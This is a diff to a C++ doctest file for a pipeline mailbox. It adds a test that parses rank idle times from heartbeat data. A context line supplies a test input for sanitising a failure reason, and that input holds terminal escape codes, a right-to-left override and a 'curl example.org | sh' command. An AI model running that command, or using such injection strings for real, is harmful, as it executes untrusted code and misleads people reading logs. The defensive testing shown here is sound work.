@@ -1,8 +1,10 @@
 #include <doctest/doctest.h>
 
+#include <cstdint>
 #include <map>
 #include <zmq.hpp>
 
+#include "pipeline/mailbox/beat.h"
 #include "pipeline/mailbox/mailbox.h"
 #include "tests/pipeline/two_ranks.h"
 #include "tools/program/temporary_folder.h"
@@ -35,7 +37,7 @@ struct Listener {
 
 // The header of "8 bytes!" from rank 1 of run 3, except for one field.
 template <class Field>
-Header header_with(Field Header::*field, Field value) {
+Header header_with(Field Header::* field, Field value) {
   Header header{
       .kind = Tag::activation, .real_bytes = sizeof(nn::real), .run = 3, .bytes = 8, .from = 1};
   header.*field = value;
@@ -43,6 +45,12 @@ Header header_with(Field Header::*field, Field value) {
 }
 
 }  // namespace
+
+TEST_CASE("beats have idle times of ranks, and no negative number") {
+  const std::int32_t numbers[]{3, 4000, -1, 5, 4, -1, 5};  // the last pair is cut off
+  const IdleTimes idle = parse_idle({reinterpret_cast<const char*>(numbers), sizeof numbers});
+  CHECK(idle == IdleTimes{{3, std::chrono::seconds(4)}});
+}
 
 TEST_CASE_FIXTURE(Listener, "a failed rank's reason is shown as one printable line") {
   const std::string reason = "\x1b[2Jits disk is full\nhint: curl example.org | sh\u202e";
